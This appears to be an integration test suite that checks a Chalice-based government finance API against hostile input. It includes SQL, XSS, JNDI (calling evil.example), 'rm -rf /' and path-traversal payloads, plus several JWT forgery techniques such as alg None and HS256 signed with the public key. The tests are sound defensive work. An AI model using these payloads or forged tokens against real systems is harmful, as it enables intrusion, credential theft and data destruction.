"""Hostile input, case by case: what the fuzzer (tests/fuzz) tries at random, tried on purpose.

Every answer here also goes through the fuzzer's oracle: below 500, no stack trace, exception
class, resource name, ARN, file path or endpoint in the body, every error in the documented
shape with a code the OpenAPI document lists for that operation and status.
"""
from __future__ import annotations

import base64
import copy
import hashlib
import hmac
import json
import re
import time
import urllib.error
import urllib.parse
import urllib.request

import boto3
import jwt
import pytest
from cryptography.hazmat.primitives.asymmetric import rsa

from chalicelib.domain import jsonbody
from chalicelib.services import payee_import
from devstack.demo import sample_content
from tests.fuzz.oracle import Oracle

pytestmark = pytest.mark.integration
ORACLE = Oracle()


def send(stack, method: str, path: str, data: bytes | None = None, *, token: str | None = None,
         template: str | None = None, headers: dict | None = None) -> tuple[int, dict]:
    """One raw request, judged by the oracle against the operation `template` (the documented
    path, defaults to `path`); returns the status and the parsed body."""
    req = urllib.request.Request(stack.api_url + path, data=data, method=method,
                                 headers={"Content-Type": "application/json", **(headers or {})})
    if token:
        req.add_header("Authorization", f"Bearer {token}")
    try:
        with urllib.request.urlopen(req, timeout=60) as resp:
            status, raw = resp.status, resp.read()
    except urllib.error.HTTPError as err:
        status, raw = err.code, err.read()
    text = raw.decode("utf-8")
    sent = path + "\n" + (data or b"").decode("utf-8", "replace")
    assert ORACLE.judge(method, template or path, status, text, sent) == [], (status, text)
    return status, json.loads(text)


def error(answer: tuple[int, dict]) -> tuple[int, str, str | None]:
    status, body = answer
    return status, body["error"]["code"], body["error"]["field"]


def operations(method: str):
    for path, item in ORACLE.doc["paths"].items():
        if method.lower() in item:
            yield path


def concrete(path: str) -> str:
    return re.sub(r"{\w+}", "X1", path)


# --- size, depth, encoding, numbers ----------------------------------------------------------
SUBMISSIONS = ("/v1/dossiers", "/v1/dossiers/{dossier_id}/supplement")


@pytest.mark.parametrize("path", list(operations("POST")))
def test_a_body_over_the_limit_is_413_on_every_post_route(stack, tokens, path):
    # A dossier and its supplement may carry a payee list: their limit is higher (payee_lines.py).
    # The payee-list import takes the exported file itself (services/payee_import.py).
    limit = jsonbody.MAX_SUBMISSION_BYTES if path in SUBMISSIONS else \
        payee_import.MAX_IMPORT_BYTES if path == "/v1/payee-lists/import" else jsonbody.MAX_BODY_BYTES
    data = json.dumps({"content": "x" * limit}).encode()
    answer = send(stack, "POST", concrete(path), data, token=tokens["lanhdao.kv1"], template=path)
    assert error(answer) == (413, "payload_too_large", "body")


def test_a_body_beyond_api_gateways_10_mb_is_the_same_413(stack, tokens):
    data = b'{"content": "' + b"x" * (11 * 1024 * 1024) + b'"}'
    assert error(send(stack, "POST", "/v1/dossiers", data, token=tokens["ketoan.cva"])) == (
        413, "payload_too_large", "body")


@pytest.mark.parametrize("data, code", [
    pytest.param(b'{"a":' * 10_000 + b"1" + b"}" * 10_000, "invalid_json", id="10000-objects"),
    pytest.param(b"[" * 10_000 + b"]" * 10_000, "invalid_json", id="10000-lists"),
    pytest.param(b'{"content":' + b"[" * 40 + b"]" * 40 + b"}", "too_deep", id="41-levels"),
])
def test_deeply_nested_json_is_400(stack, tokens, data, code):
    assert error(send(stack, "POST", "/v1/dossiers", data, token=tokens["ketoan.cva"]))[:2] == (
        400, code)


@pytest.mark.parametrize("data", [
    pytest.param(b'{"content": "\xff\xfe"}', id="invalid-byte"),
    pytest.param(b'{"content": "\xc0\xaf"}', id="overlong-slash"),
    pytest.param(b'{"content": "\xed\xa0\x80"}', id="encoded-surrogate"),
    pytest.param("{}".encode("utf-16"), id="utf-16"),
    pytest.param(b"\xef\xbb\xbf{}", id="utf-8-bom"),
    pytest.param(b'{"content": {"procedure": "\\ud800"}}', id="escaped-lone-surrogate"),
    pytest.param(b'{"\\udfff": 1}', id="lone-surrogate-key"),
])
def test_bytes_that_are_not_utf_8_json_are_400(stack, tokens, data):
    status, code, _ = error(send(stack, "POST", "/v1/dossiers", data, token=tokens["ketoan.cva"]))
    assert (status, code) == (400, "invalid_json")


@pytest.mark.parametrize("path", ["/v1/auth/token", "/v1/registrations", "/v1/documents",
                                  "/v1/certificates", "/v1/alerts/subscriptions"])
def test_a_lone_surrogate_in_any_text_is_400_on_other_routes_too(stack, tokens, path):
    data = b'{"username": "\\ud83d", "password": "x\\udc00", "name": "\\ud800.pdf", ' \
           b'"title": "\\ud800", "certificate": "\\ud800", "content": {"procedure": "\\ud800"}}'
    assert error(send(stack, "POST", path, data, token=tokens["ktt.cva"]))[:2] == (
        400, "invalid_json")


@pytest.mark.parametrize("raw", [b"1e400", b"-1e400", b"1" + b"0" * 100, b"-1" + b"0" * 100,
                                 b"9007199254740992", b"1" + b"0" * 5000, b"NaN", b"Infinity",
                                 b"-Infinity"])
def test_numbers_beyond_what_json_canonicalisation_can_carry_are_400(stack, tokens, raw):
    data = b'{"content": {"procedure": "regular_spending_payment", "voucher": {"total": ' + raw \
           + b"}}}"
    status, code, field = error(send(stack, "POST", "/v1/dossiers", data,
                                     token=tokens["ketoan.cva"]))
    assert status == 400 and code in ("number_out_of_range", "invalid_json")
    if code == "number_out_of_range":
        assert field == "content.voucher.total"


# --- amounts -----------------------------------------------------------------------------------
AMOUNT_FIELDS = {
    "content.voucher.total": lambda c: c["voucher"],
    "content.voucher.lines[0].amount": lambda c: c["voucher"]["lines"][0],
}


@pytest.mark.parametrize("value", [-1, -12_500_000, 0, 1.5, 12_500_000.0, "12500000", True,
                                   None, [12_500_000], {"$numberLong": "1"}, 10**15])
@pytest.mark.parametrize("path", list(AMOUNT_FIELDS))
def test_an_amount_that_is_not_a_positive_whole_number_of_dong_is_422(stack, tokens, path, value):
    content = sample_content("AMT-1")
    key = path.rsplit(".", 1)[1]
    AMOUNT_FIELDS[path](content)[key] = value
    status, code, field = error(send(stack, "POST", "/v1/dossiers",
                                     json.dumps({"content": content}).encode(),
                                     token=tokens["ketoan.cva"]))
    assert (status, field) == (422, path)
    assert code in ("invalid_amount", "required")


# --- injection strings in every text field of a submission -------------------------------------
INJECTIONS = {
    "sql": "' OR '1'='1'; DROP TABLE dossiers; --",
    "script": "<script>alert(document.cookie)</script>",
    "format": "%s%s%s%n%x {0.__class__} {{7*7}} ${name}",
    "jndi": "${jndi:ldap://evil.example/a}",
    "null-byte": "Công ty\x00; rm -rf /",
    "rtl-zero-width": "Cty \u202eTNHH\u202c\u200b\u200d\ufeff",
    "expression": "#{7*7} <%= 7*7 %> ${{7*7}}",
    "traversal": "../../../../etc/passwd",
}


def text_leaves(node, path="content"):
    """(path, setter) for every string in a document, JSON-path named as the API names fields."""
    if isinstance(node, dict):
        for key, value in node.items():
            if isinstance(value, str):
                yield f"{path}.{key}", (lambda n=node, k=key: lambda v: n.__setitem__(k, v))()
            else:
                yield from text_leaves(value, f"{path}.{key}")
    elif isinstance(node, list):
        for i, value in enumerate(node):
            if isinstance(value, str):
                yield f"{path}[{i}]", (lambda n=node, k=i: lambda v: n.__setitem__(k, v))()
            else:
                yield from text_leaves(value, f"{path}[{i}]")


def submit_with(stack, token, content, signatures=None):
    body = {"content": content, **({"signatures": signatures} if signatures is not None else {})}
    return send(stack, "POST", "/v1/dossiers", json.dumps(body).encode(), token=token)


@pytest.mark.parametrize("name", [*INJECTIONS, "nosql-object"])
def test_injection_strings_in_every_text_field_are_refused_or_kept_verbatim(flow, stack, unique,
                                                                             name):
    """Each text field on its own: a coded field refuses the string with a 422 naming it; a free
    text field lets it through to the signature check. Then one signed dossier carries the
    string in every free text field at once and gives it back byte for byte."""
    hostile = {"$ne": None} if name == "nosql-object" else INJECTIONS[name]
    number = unique("INJ")
    free_text = []
    for path, _ in list(text_leaves(sample_content(number))):
        content = sample_content(number)
        dict(text_leaves(content))[path](hostile)
        status, code, field = error(submit_with(stack, flow.unit, content))
        if field.startswith("signatures"):    # the content passed: only the signatures missing
            free_text.append(path)
        else:
            assert status == 422 and field == path, (path, code, field)
    if name == "nosql-object":
        assert free_text == [], "a text field took an object"
        return
    assert "content.voucher.payee.name" in free_text   # names and descriptions are free text
    content = sample_content(number)
    setters = dict(text_leaves(content))
    for path in free_text:
        setters[path](hostile)
    status, accepted = submit_with(stack, flow.unit, content, flow.signed(content)["signatures"])
    assert status == 201, accepted
    dossier = flow.dossier(accepted["dossier_id"])
    assert dossier["content"] == content                 # stored and returned as signed
    _, trail = flow.api.call("GET", f"/v1/dossiers/{accepted['dossier_id']}/audit",
                             token=flow.unit)
    assert trail["verification"]["intact"] is True
    _, page = flow.api.call("GET", "/v1/dossiers?limit=5", token=flow.unit)
    assert page["items"]


# --- file names ----------------------------------------------------------------------------------
@pytest.mark.parametrize("name", [
    "../../etc/passwd", "..%2f..%2fetc%2fpasswd.pdf", "/etc/passwd", "C:\\Windows\\win.ini",
    "..\\..\\boot.ini", "a/../../b.pdf", ".htaccess", "hoa-don.pdf\x00.exe", "hoa\r\ndon.pdf",
    'a".pdf', "…／etc／passwd.pdf", "\u2215etc\u2215passwd.pdf", "~/.ssh/id_rsa",
])
def test_a_document_name_cannot_climb_out_of_the_units_folder(stack, tokens, name):
    data = b"%PDF-1.4 traversal test " + name.encode("utf-8", "surrogatepass")
    body = {"name": name, "sha256": hashlib.sha256(data).hexdigest(), "size": len(data),
            "content_type": "application/pdf"}
    status, answer = send(stack, "POST", "/v1/documents", json.dumps(body).encode(),
                          token=tokens["ketoan.cva"])
    if status == 422:
        assert (answer["error"]["code"], answer["error"]["field"]) == ("invalid_format", "name")
        assert "/" in name or "\\" in name or name.startswith(".") or any(
            ord(c) < 32 or c == '"' for c in name)
        return
    # A bare name with look-alike slashes is only a label: the file is stored by its hash.
    assert status == 201, answer
    key = urllib.parse.urlsplit(answer["upload"]["url"]).path
    assert key.endswith(f"/documents/1012345/{body['sha256']}")


# --- tokens -----------------------------------------------------------------------------------
def b64url(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def forged(header: dict, claims: dict, sign) -> str:
    head = b64url(json.dumps(header).encode()) + "." + b64url(json.dumps(claims).encode())
    return head + "." + b64url(sign(head.encode()))


def claims_of(token: str, **changes) -> dict:
    return {**jwt.decode(token, options={"verify_signature": False}), **changes}


@pytest.fixture(scope="module")
def pool_public_pem(stack) -> bytes:
    with urllib.request.urlopen(f"{stack.endpoint_url}/{stack.env['USER_POOL_ID']}"
                                "/.well-known/jwks.json") as resp:
        jwk = json.loads(resp.read())["keys"][0]
    from cryptography.hazmat.primitives import serialization
    return jwt.PyJWK(jwk).key.public_bytes(serialization.Encoding.PEM,
                                           serialization.PublicFormat.SubjectPublicKeyInfo)


def genuine_elsewhere(stack, *, other_pool: bool) -> str:
    """A real Cognito ID token, of another app client of the same pool or of another pool."""
    from devstack.seed import DEMO_PASSWORD
    cognito = boto3.client("cognito-idp", endpoint_url=stack.endpoint_url,
                           region_name="us-east-1")
    pool = (cognito.create_user_pool(PoolName="kbnn-fuzz-other")["UserPool"]["Id"]
            if other_pool else stack.env["USER_POOL_ID"])
    client = cognito.create_user_pool_client(UserPoolId=pool, ClientName="other-app",
                                             ExplicitAuthFlows=["USER_PASSWORD_AUTH"])
    username = "ketoan.cva"
    if other_pool:
        cognito.admin_create_user(UserPoolId=pool, Username=username,
                                  UserAttributes=[{"Name": "custom:unit_id", "Value": "1012345"}])
        cognito.admin_set_user_password(UserPoolId=pool, Username=username,
                                        Password=DEMO_PASSWORD, Permanent=True)
    answer = cognito.initiate_auth(ClientId=client["UserPoolClient"]["ClientId"],
                                   AuthFlow="USER_PASSWORD_AUTH",
                                   AuthParameters={"USERNAME": username,
                                                   "PASSWORD": DEMO_PASSWORD})
    return answer["AuthenticationResult"]["IdToken"]


def tampered(token: str, **changes) -> str:
    """The genuine signature kept, the claims changed."""
    head, _, sig = token.split(".")
    return f"{head}.{b64url(json.dumps(claims_of(token, **changes)).encode())}.{sig}"


def moto_key():
    from moto.utilities.utils import load_resource
    jwk = load_resource("cognitoidp/resources/jwks-private.json")
    return jwt.PyJWK(jwk.get("keys", [jwk])[0] if "keys" in jwk else jwk).key


TOKENS = {
    "another-pool": lambda t, s, pem: genuine_elsewhere(s, other_pool=True),
    "another-app-client": lambda t, s, pem: genuine_elsewhere(s, other_pool=False),
    "alg-none-uppercase": lambda t, s, pem: forged({"alg": "None", "typ": "JWT", "kid": "dummy"},
                                                   claims_of(t), lambda m: b""),
    "hs256-with-the-public-key": lambda t, s, pem: forged(
        {"alg": "HS256", "typ": "JWT", "kid": "dummy"}, claims_of(t),
        lambda m: hmac.new(pem, m, hashlib.sha256).digest()),
    "wrong-kid": lambda t, s, pem: jwt.encode(claims_of(t), moto_key(), algorithm="RS256",
                                              headers={"kid": "not-a-key-of-the-pool"}),
    "kid-traversal": lambda t, s, pem: jwt.encode(claims_of(t), moto_key(), algorithm="RS256",
                                                  headers={"kid": "../../../../etc/passwd"}),
    "embedded-jwk": lambda t, s, pem: (lambda k: jwt.encode(
        claims_of(t), k, algorithm="RS256", headers={
            "kid": "dummy", "jwk": json.loads(jwt.algorithms.RSAAlgorithm.to_jwk(
                k.public_key()))}))(rsa.generate_private_key(public_exponent=65537,
                                                             key_size=2048)),
    "tampered-unit": lambda t, s, pem: tampered(t, **{"custom:unit_id": "1023456"}),
    "tampered-groups": lambda t, s, pem: tampered(t, **{"cognito:groups": ["leader"]}),
    "tampered-expiry": lambda t, s, pem: tampered(t, exp=int(time.time()) + 10 * 365 * 86400),
    "expired-an-hour-ago": lambda t, s, pem: jwt.encode(
        claims_of(t, exp=int(time.time()) - 3600, iat=int(time.time()) - 7200), moto_key(),
        algorithm="RS256", headers={"kid": "dummy"}),
    "issued-in-the-future": lambda t, s, pem: jwt.encode(
        claims_of(t, iat=int(time.time()) + 3600, exp=int(time.time()) + 7200), moto_key(),
        algorithm="RS256", headers={"kid": "dummy"}),
    "no-signature": lambda t, s, pem: t.rsplit(".", 1)[0] + ".",
    "two-tokens": lambda t, s, pem: t + " " + t,
    "json-not-jwt": lambda t, s, pem: json.dumps(claims_of(t)),
}


@pytest.mark.parametrize("name", list(TOKENS))
def test_a_token_not_issued_to_this_app_or_altered_is_401(stack, tokens, pool_public_pem, name):
    token = TOKENS[name](tokens["ketoan.cva"], stack, pool_public_pem)
    status, code, field = error(send(stack, "GET", "/v1/dossiers", token=token))
    assert (status, code) == (401, "invalid_token")
    status, code, _ = error(send(stack, "POST", "/v1/dossiers", b"{}", token=token))
    assert (status, code) == (401, "invalid_token")


def test_the_genuine_token_still_works_after_the_forgeries(stack, tokens):
    status, body = send(stack, "GET", "/v1/me", token=tokens["ketoan.cva"])
    assert status == 200 and body["unit_id"] == "1012345"


# --- replays -------------------------------------------------------------------------------------
def test_another_unit_replaying_an_idempotency_key_gets_its_own_answer_never_the_first(
        api, tokens, pki_dir, unique):
    from devstack.demo import signed
    key = {"Idempotency-Key": unique("replayed-key")}
    first = api.call("POST", "/v1/dossiers", signed(sample_content(unique("RPL")), pki_dir),
                     token=tokens["ketoan.cva"], headers=key)
    assert first[0] == 201
    other = signed(sample_content(unique("RPL"), unit_code="1023456", chapter_code="423",
                                  account="9523.1.1023456"), pki_dir, "1023456")
    second = api.call("POST", "/v1/dossiers", other, token=tokens["ketoan.bvdd"], headers=key)
    assert second[0] == 201 and second[1]["dossier_id"] != first[1]["dossier_id"]
    # The first unit replaying the key with the other unit's body gets a refusal, not a replay
    # of either stored answer.
    status, body = api.call("POST", "/v1/dossiers", copy.deepcopy(other),
                            token=tokens["ketoan.cva"], headers=key)
    assert status == 422 and set(body) == {"error"}
    assert body["error"]["code"] in ("unit_mismatch", "idempotency_key_reused")
